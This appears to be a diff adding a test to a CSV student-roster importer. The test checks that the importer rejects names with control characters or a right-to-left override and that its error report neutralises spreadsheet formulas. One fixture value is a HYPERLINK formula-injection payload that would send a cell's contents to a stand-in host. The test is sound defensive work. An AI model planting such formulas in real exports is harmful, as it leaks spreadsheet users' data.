@@ -398,6 +398,33 @@ def test_bad_rows_are_reported_and_good_rows_go_in(schools, tmp_path):
     assert not Student.objects.filter(school=schools.school_b, name__startswith="学生").exists()
 
 
+def test_names_with_control_characters_are_rejected_and_the_report_runs_no_formula(
+    schools, tmp_path
+):
+    data = rows(3)
+    data[0]["姓名"] = "学生\x07一"  # row 2: a control character
+    data[1]["监护人姓名"] = "家长\u202e二"  # row 3: a right-to-left override in the guardian
+    data[2]["姓名"] = '=HYPERLINK("http://x.example/?"&A1,"点击")'  # row 4, with a bad gender
+    data[2]["性别"] = "?"
+
+    out, _err = run(write_csv(tmp_path / "roster.csv", data), "--as", "school_admin_a")
+
+    assert last_line(out) == "created=0 updated=0 unchanged=0 rejected=3"
+    report = report_rows(last_job())
+    assert [(r["Row"], r["Column"]) for r in report] == [
+        ("2", "姓名"),
+        ("3", "监护人姓名"),
+        ("4", "性别"),
+    ]
+    assert report[2]["姓名"] == "'" + data[2]["姓名"]  # shown as text in a spreadsheet
+    # Fixed and imported again, the neutralised cell reads as typed.
+    fixed = [{**report[2], "性别": "男"}]
+    fixed[0] = {k: v for k, v in fixed[0].items() if k in HEADERS}
+    out, _err = run(write_csv(tmp_path / "fixed.csv", fixed), "--as", "school_admin_a")
+    assert last_line(out) == "created=1 updated=0 unchanged=0 rejected=0"
+    assert Student.objects.filter(name=data[2]["姓名"]).exists()
+
+
 def test_error_report_is_in_the_users_language(schools, tmp_path):
     data = rows(1)
     data[0]["性别"] = "?"
